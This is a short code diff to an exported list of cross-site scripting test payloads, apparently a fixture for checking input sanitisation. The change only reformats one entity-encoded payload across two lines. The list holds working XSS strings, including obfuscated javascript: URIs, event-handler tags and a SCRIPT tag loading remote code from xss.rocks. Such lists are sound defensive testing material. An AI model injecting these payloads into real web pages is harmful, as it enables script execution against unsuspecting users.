@@ -69,7 +69,8 @@ export const XSS_PAYLOADS = [
   '<iframe src=javascript:alert(1)>',
   '<body onload=alert(1)>',
   '<IMG SRC="jav&#x09;ascript:alert(1);">',
-  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
+  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;' +
+    '&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
   '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
   '<<SCRIPT>alert(1);//\\<</SCRIPT>',
   '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
